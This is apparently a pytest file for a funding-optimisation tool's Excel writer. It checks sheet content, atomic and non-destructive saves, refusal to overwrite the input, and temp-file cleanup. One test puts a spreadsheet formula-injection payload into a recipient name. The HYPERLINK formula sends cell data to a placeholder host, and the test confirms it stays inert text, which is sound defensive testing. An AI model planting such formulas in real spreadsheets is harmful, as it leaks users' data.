"""The results workbook: content, safety of text, and atomic, non-destructive writing."""

from __future__ import annotations

import errno
import os
import re
import time
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from plans import banners, hand_plan, sheet_rows, summary_facts
from xlsx_fixtures import template, untouched

from fundopt.errors import ExitCode, OutputError
from fundopt.io import ExtraSheet, read_workbook, write_problem, write_workbook
from fundopt.io.template import example_problem
from fundopt.io.xlsx import HIGHLIGHT_FILL


def test_sheets_and_numbers(tmp_path: Path) -> None:
    plan = hand_plan()
    out = write_workbook(plan, tmp_path / "plan.xlsx")
    wb = openpyxl.load_workbook(out)
    # the hand plan has no breaches, share targets, tiers or bands: no empty sheets for them
    assert wb.sheetnames == ["Summary", "Settlement", "Recipients by year", "Allocations",
                             "Headroom",
                             "Strands and threats", "Share targets", "Requirements",
                             "Stream use", "Binding rules", "Shadow prices", "Checks", "Audit"]
    rows = sheet_rows(out, "Allocations")
    assert [r["Amount (£m)"] for r in rows] == [10_000_000 / 1_000_000]
    assert rows[0]["Recipient name"] == "Cumbria Constabulary"
    assert rows[0]["Activity name"] == "Drugs: pursue"  # a name beside every id
    assert rows[0]["Stream name"] == "Serious and organised crime grant"
    assert wb["Allocations"]["L4"].number_format == "#,##0.0"
    assert wb["Checks"]["B1"].value is True
    summary = summary_facts(out)
    assert summary["Status"] == "Optimal: the best plan that keeps every rule"
    assert summary["Independent check"].startswith("Passed: all 2 checks")
    assert summary["Allocated over the plan (£m)"] == 10.0
    audit = {r["Item"]: r["Value"] for r in sheet_rows(out, "Audit")}
    assert audit["HiGHS"] == "1.16.0"
    assert audit["plan fingerprint"] == plan.fingerprint
    assert audit["setting money_unit"] == "£m"
    assert audit["solver option presolve"] == "on"
    assert re.match(r"\d{4}-\d\d-\d\dT", str(audit["written (UTC)"]))
    with zipfile.ZipFile(out) as z:
        assert any(n.startswith("xl/charts/chart") for n in z.namelist())


def test_master_check_fails_when_a_check_fails(tmp_path: Path) -> None:
    out = write_workbook(hand_plan(passed=False), tmp_path / "plan.xlsx")
    wb = openpyxl.load_workbook(out)
    assert wb["Checks"]["B1"].value is False
    assert summary_facts(out)["Independent check"] == "FAILED: 1 of 2 checks (see Checks)"
    assert "CHECKS FAILED: 1 rule failed the independent re-check" in banners(out)[0]
    checks = sheet_rows(out, "Checks")
    assert checks[0]["Passed"] is False  # failures first


def test_binding_limits_are_highlighted(tmp_path: Path) -> None:
    out = write_workbook(hand_plan(), tmp_path / "plan.xlsx")
    ws = openpyxl.load_workbook(out)["Recipients by year"]
    header = [c.value for c in ws[3]]
    total = header.index("Total 2026-27 (£m)") + 1
    base = header.index("Total 2025-26 (£m)") + 1
    assert ws.cell(row=4, column=total).fill.fgColor.rgb == HIGHLIGHT_FILL.fgColor.rgb
    assert ws.cell(row=4, column=base).fill.fgColor.rgb != HIGHLIGHT_FILL.fgColor.rgb
    assert ws.cell(row=4, column=total).value == 112


def _formula_cells(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/")
                and b"<f>" in z.read(n)]


def test_text_from_input_never_becomes_a_formula(tmp_path: Path) -> None:
    problem = example_problem()
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    recipients = problem.recipients.copy()
    recipients["name"] = [evil]
    problem = problem.replace(recipients=recipients)
    out = write_workbook(hand_plan(problem), tmp_path / "plan.xlsx")
    assert _formula_cells(out) == []
    assert sheet_rows(out, "Allocations")[0]["Recipient name"] == evil
    written = write_problem(problem, tmp_path / "problem.xlsx")
    assert _formula_cells(written) == []
    assert read_workbook(written).recipients["name"].tolist() == [evil]


def test_extra_sheets(tmp_path: Path) -> None:
    frame = pd.DataFrame({"recipient": ["cumbria"], "change": [1_500_000.0]})
    out = write_workbook(hand_plan(), tmp_path / "plan.xlsx", extra_sheets={
        "Winners/losers": ExtraSheet(frame, money_columns=("change",), note="vs today's method"),
        "summary": frame,
    })
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames[-3:] == ["Winners_losers", "summary (2)", "Audit"]
    ws = wb["Winners_losers"]
    assert ws["A2"].value == "vs today's method"
    assert [c.value for c in ws[3]] == ["recipient", "change (£m)"]
    assert ws["B4"].value == 1.5
    assert ws.freeze_panes == "B4" and ws.auto_filter.ref == "A3:B4"


# -- never over the input, never partial --------------------------------------------------------
def test_refuses_to_overwrite_the_input(tmp_path: Path) -> None:
    path = template(tmp_path)
    plan = hand_plan(read_workbook(path))
    with untouched(path):
        for target in (path, tmp_path / "." / "input.xlsx"):
            with pytest.raises(OutputError) as e:
                write_workbook(plan, target, overwrite=True)
            assert e.value.code == "FO-O01"
    link = tmp_path / "link.xlsx"
    link.symlink_to(path)
    with untouched(path), pytest.raises(OutputError, match="input workbook"):
        write_workbook(plan, link, overwrite=True)


def test_refuses_an_existing_file_unless_allowed(tmp_path: Path) -> None:
    target = tmp_path / "plan.xlsx"
    target.write_bytes(b"old")
    with untouched(target), pytest.raises(OutputError) as e:
        write_workbook(hand_plan(), target)
    assert e.value.code == "FO-O02" and e.value.exit_code is ExitCode.OUTPUT
    write_workbook(hand_plan(), target, overwrite=True)
    assert openpyxl.load_workbook(target).sheetnames[0] == "Summary"


def test_bad_targets(tmp_path: Path) -> None:
    with pytest.raises(OutputError, match="does not exist") as e:
        write_workbook(hand_plan(), tmp_path / "missing" / "plan.xlsx")
    assert e.value.code == "FO-O14"
    with pytest.raises(OutputError, match=r"end in \.xlsx"):
        write_workbook(hand_plan(), tmp_path / "plan.csv")
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize("existing", [False, True])
def test_a_failed_write_leaves_nothing_partial(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                               existing: bool) -> None:
    target = tmp_path / "plan.xlsx"
    if existing:
        target.write_bytes(b"previous results")

    def disk_full(self: object, f: object) -> None:
        assert hasattr(f, "write")
        f.write(b"PK partial")  # type: ignore[attr-defined]
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", disk_full)
    before = sorted(os.listdir(tmp_path))
    with pytest.raises(OutputError) as e:
        write_workbook(hand_plan(), target, overwrite=True)
    assert e.value.code == "FO-O05"
    assert sorted(os.listdir(tmp_path)) == before
    if existing:
        assert target.read_bytes() == b"previous results"


def test_output_file_permissions_are_normal(tmp_path: Path) -> None:
    out = write_workbook(hand_plan(), tmp_path / "plan.xlsx")
    umask = os.umask(0)
    os.umask(umask)
    assert out.stat().st_mode & 0o777 == 0o666 & ~umask


# -- problems written in the template format -------------------------------------------------------
@pytest.mark.parametrize("unit", ["£", "£k", "£m"])
def test_write_problem_round_trip(tmp_path: Path, unit: str) -> None:
    from fundopt.problem import Settings

    problem = example_problem()
    problem = problem.replace(settings=Settings(name="Round trip", money_unit=unit,  # type: ignore[arg-type]
                                                time_limit_seconds=30.0))
    sources = pd.DataFrame({"table": ["envelopes"], "source": ["Home Office main estimate"]})
    path = write_problem(problem, tmp_path / "problem.xlsx", extra_sheets={"Sources": sources})
    again = read_workbook(path)
    assert again.settings == problem.settings
    for name, table in problem.tables().items():
        pd.testing.assert_frame_equal(again.tables()[name].reset_index(drop=True),
                                      table.reset_index(drop=True), obj=name)
    assert openpyxl.load_workbook(path)["Sources"]["B2"].value == "Home Office main estimate"


# -- a run killed while writing -----------------------------------------------------------------
def test_the_temporary_files_of_a_killed_run_go_at_the_next_write(tmp_path: Path) -> None:
    from fundopt.io.atomic import STALE_SECONDS

    target = tmp_path / "plan.xlsx"
    stale = tmp_path / ".plan.ab12cd_9.tmp"  # as mkstemp names them
    fresh = tmp_path / ".plan.zz99yy_0.tmp"  # another run may still be writing this one
    mine = tmp_path / ".plan.notes.tmp"  # not a name fundopt makes
    for p in (stale, fresh, mine):
        p.write_bytes(b"PK half a workbook")
    old = time.time() - STALE_SECONDS - 60
    for p in (stale, mine):
        os.utime(p, (old, old))
    write_workbook(hand_plan(), target)
    assert sorted(os.listdir(tmp_path)) == sorted([target.name, fresh.name, mine.name])


@pytest.fixture(scope="module")
def reference_plan() -> object:
    from fundopt import solve

    return solve(read_workbook(Path(__file__).resolve().parents[2] / "models"
                               / "england_wales_soc.xlsx"))


KILLED_WRITER = """
import os, pickle, sys, time
from fundopt.io import write_workbook
plan = pickle.load(open(sys.argv[1], "rb"))
if sys.argv[3] == "slow disk":  # the bytes are in the temporary file, not yet in place
    real = os.fsync
    def fsync(fd):
        print("syncing", flush=True)
        time.sleep(30)
        real(fd)
    os.fsync = fsync
print("writing", flush=True)
write_workbook(plan, sys.argv[2], overwrite=True)
"""


def test_a_write_killed_at_any_moment_leaves_the_old_file_or_the_new_one(
        tmp_path: Path, reference_plan: object) -> None:
    # kill -9 at random moments of a real write: the target is always a whole workbook
    # (the previous one, byte for byte, or the new one), never a part of one
    import pickle
    import random
    import signal
    import subprocess
    import sys

    saved = tmp_path / "plan.pickle"
    saved.write_bytes(pickle.dumps(reference_plan))
    target = tmp_path / "out.xlsx"
    write_workbook(reference_plan, target)  # type: ignore[arg-type]
    previous = target.read_bytes()
    whole = openpyxl.load_workbook(target).sheetnames  # what a whole workbook holds
    t0 = time.perf_counter()
    write_workbook(reference_plan, tmp_path / "timing.xlsx")  # type: ignore[arg-type]
    seconds = time.perf_counter() - t0
    (tmp_path / "timing.xlsx").unlink()
    rng = random.Random(7)
    outcomes = set()
    # kills at random moments, then two while the temporary file is being synced to disk
    # (the content is made in memory: that is the moment the file exists but is not in place)
    for when in [*(rng.uniform(0.45, 1.1) for _ in range(6)), "slow disk", "slow disk"]:
        with subprocess.Popen([sys.executable, "-c", KILLED_WRITER, str(saved), str(target),
                               str(when)], stdout=subprocess.PIPE, text=True) as child:
            assert child.stdout is not None and child.stdout.readline().strip() == "writing"
            if when == "slow disk":
                assert child.stdout.readline().strip() == "syncing"
            else:
                time.sleep(float(when) * seconds)
            child.send_signal(signal.SIGKILL)
            child.wait()
        data = target.read_bytes()
        if data == previous:
            outcomes.add("old")
        else:
            wb = openpyxl.load_workbook(target)  # the new one, whole
            assert wb.sheetnames == whole
            outcomes.add("new")
            previous = data
    leftovers = [p for p in tmp_path.iterdir() if p.name.startswith(".out.")]
    assert leftovers and "old" in outcomes  # kills did land while the file was being written
    for p in leftovers:  # a killed run cannot clean up; the next write does, once stale
        os.utime(p, (0, 0))
    write_workbook(reference_plan, target, overwrite=True)  # type: ignore[arg-type]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.xlsx", "plan.pickle"]


STOPPED_WRITER = """
import pickle, sys, zipfile
from fundopt.io import write_workbook
plan = pickle.load(open(sys.argv[1], "rb"))
calls = 0
real = zipfile.ZipFile.writestr
def writestr(self, *args, **kwargs):
    global calls
    calls += 1
    if calls == int(sys.argv[3]):
        raise {error}
    return real(self, *args, **kwargs)
zipfile.ZipFile.writestr = writestr
try:
    write_workbook(plan, sys.argv[2])
except {caught} as e:
    print("stopped:", type(e).__name__, getattr(e, "code", ""))
"""


@pytest.mark.parametrize(("error", "caught", "said"), [
    ("KeyboardInterrupt", "KeyboardInterrupt", "stopped: KeyboardInterrupt"),
    ("OSError(28, 'No space left on device')", "Exception", "stopped: OutputError FO-O05"),
])
def test_a_save_stopped_half_way_leaves_nothing_and_says_nothing_more(
        tmp_path: Path, reference_plan: object, error: str, caught: str, said: str) -> None:
    # Ctrl-C, or a full disk, in the middle of saving: no output, no temporary file, and
    # no "Exception ignored in ZipFile.__del__" traceback when the process ends
    import pickle
    import subprocess
    import sys

    saved = tmp_path / "plan.pickle"
    saved.write_bytes(pickle.dumps(reference_plan))
    target = tmp_path / "out" / "plan.xlsx"
    target.parent.mkdir()
    for nth in (3, 12):
        proc = subprocess.run([sys.executable, "-c", STOPPED_WRITER.format(error=error,
                                                                          caught=caught),
                               str(saved), str(target), str(nth)],
                              capture_output=True, text=True, timeout=300, check=False)
        assert proc.stdout.strip() == said, proc.stdout + proc.stderr
        assert proc.stderr == ""
        assert os.listdir(target.parent) == []


def test_the_sources_sheet_is_copied_as_it_was_read(tmp_path: Path) -> None:
    # the results workbook's Sources sheet is the input's as read, with each value's unit,
    # even once the input file has changed or gone (it was read again at write time)
    sources = pd.DataFrame({"table": ["envelopes", "cliff_edges"],
                            "source": ["Home Office main estimate", None],
                            "value": [18_400e6, 0.05], "unit": ["£", "rate"]})
    path = write_problem(example_problem(), tmp_path / "problem.xlsx",
                         extra_sheets={"Sources": sources})
    problem = read_workbook(path)
    path.unlink()
    out = write_workbook(hand_plan(problem), tmp_path / "plan.xlsx")
    rows = sheet_rows(out, "Sources")
    assert [(r["Table"], r["Source"], r["Value"]) for r in rows] == [
        ("envelopes", "Home Office main estimate", "£18,400.0m"), ("cliff_edges", None, "5%")]
